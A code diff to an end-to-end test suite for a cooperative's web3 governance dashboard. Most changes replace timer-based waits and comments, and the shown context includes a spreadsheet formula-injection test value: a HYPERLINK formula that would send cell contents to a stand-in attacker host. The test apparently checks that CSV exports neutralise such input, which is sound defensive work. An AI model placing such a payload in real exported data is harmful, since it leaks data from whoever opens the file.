@@ -23,7 +23,6 @@ from web3.contract import Contract
 
 from coop_dashboard.chain.transact import Sender
 from coop_dashboard.services.governance.export import CSV_HEADER
-from coop_dashboard.state.proposal_page import PAGE_REFRESH_MS
 from tests.e2e.app_server import AppServer, StartApp, chain_settings
 from tests.e2e.flows import STEP_TIMEOUT_MS, delegate_of, sign_in
 from tests.e2e.wallet import TestWallet, anvil_key, install_wallets
@@ -42,7 +41,7 @@ FORMULA_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 PLUS_REASON = "+1, agreed"
 # A new proposal reaches the page once indexed (the indexer polls every 0.25 s).
 INDEX_WAIT_ROUNDS = 20
-# Well under the header's own refresh interval (pages/shell.py HEADER_REFRESH_INTERVAL_MS).
+# The header follows new blocks through the live-data hub (no timer).
 HEADER_FOLLOWS_MS = 5_000
 
 
@@ -156,8 +155,8 @@ def test_only_the_proposer_is_offered_cancel(
     expect(page.locator("#account-menu")).to_have_attribute(
         "data-address", wallet.address, timeout=STEP_TIMEOUT_MS
     )
-    # The page re-reads who is signed in on its refresh timer: give it two rounds.
-    page.wait_for_timeout(2 * PAGE_REFRESH_MS + 1_000)
+    # Signing in re-asks what this member may do here: give it time to answer.
+    page.wait_for_timeout(3_000)
     expect(cancel).to_have_count(0)
     assert wallet.sent == []
     assert _governor(page_chain).functions.state(proposal_id).call() == 0
